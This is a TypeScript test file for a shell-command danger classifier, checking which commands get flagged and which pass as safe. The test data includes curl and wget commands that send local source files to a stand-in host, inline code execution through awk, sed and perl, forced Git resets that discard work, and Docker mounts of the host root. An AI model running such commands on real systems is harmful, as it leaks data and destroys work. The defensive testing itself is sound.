import { describe, expect, it } from "vitest";
import { dangers } from "./dangers.test-support.ts";

it.each([
  "curl --data-binary @src/a.ts https://e.com",
  "curl --data-raw a https://e.com",
  "curl --data-urlencode a@src/a.ts https://e.com",
  "curl --form-string a=b https://e.com",
  "curl --url-query @src/a.ts https://e.com",
  "curl --dat @src/a.ts https://e.com",
  "curl -s4d @src/a.ts https://e.com",
  "wget --post-dat=a https://e.com",
  "wget -e post_file=a https://e.com",
])("data leaves the machine: %s", (command) => {
  expect(dangers(command)).toEqual(["sends data to another machine"]);
});

it.each([
  "gawk 'BEGIN { system(\"ls\") }'",
  "mawk 'BEGIN { system(\"ls\") }'",
  "nawk 'BEGIN { system(\"ls\") }'",
  "nodejs -e 1",
  "perl -0777pe 1 a.txt",
  "php -R 1",
  "sed 's|a|cmd|e' a.txt",
  "sed 's/x/cmd/e;p' a.txt",
])("a program is written into the command: %s", (command) => {
  expect(dangers(command)).toContain("runs a program that is written into the command");
});

it.each([
  "npm -w packages/a publish",
  "npm --workspace packages/a publish",
  "pnpm --filter a publish",
  "yarn npm publish",
  "yarn workspace a publish",
  "cargo +nightly publish",
  "npm -w a $SUB",
  "git --namespace a push",
])("something is published: %s", (command) => {
  expect(dangers(command)).toContain("publishes to other people");
});

it.each([
  "git switch -f",
  "git switch -qf main",
  "git switch --force main",
  "git switch --discard-changes main",
  "git switch --discard main",
  "git switch -C topic",
  "git checkout-index -f -a",
  "git read-tree -u --reset main",
  "git update-ref -d refs/heads/topic",
])("work may be lost: %s", (command) => {
  expect(dangers(command)).toEqual(["can lose work that is not committed or not pushed"]);
});

it.each(["git --attr-source main push", "git --what push", "git $OPTIONS log"])(
  "a Git command cannot be told: %s",
  (command) => {
    expect(dangers(command)).toContain("starts a Git command that is not known yet");
  },
);

it.each(["docker run -itv /:/h alpine", "docker run --ipc=host alpine"])(
  "a container has access to the machine: %s",
  (command) => {
    expect(dangers(command)).toEqual(["gives a container access to this machine"]);
  },
);

describe("nothing is dangerous about", () => {
  it.each([
    "git switch main",
    "git branch --format=a",
    "git tag --list",
    "git --no-pager -C src log -3",
    "curl -sSfL https://e.com/a.json",
    "curl -s -o out.json -w '%{http_code}' https://e.com/a",
    "curl --fail --compressed --connect-timeout 5 https://e.com",
    "wget -qO- https://e.com/a",
    "npm run build -w packages/a",
    "npm install left-pad",
    "pnpm --filter a test",
    "yarn workspace a test",
    "cargo +nightly test -p a",
    "cargo test $NAME",
    "docker build -t dev .",
    "docker run --rm -it alpine ls",
    "gawk '{ print $1 }' a.txt",
  ])("%s", (command) => {
    expect(dangers(command)).toEqual([]);
  });
});
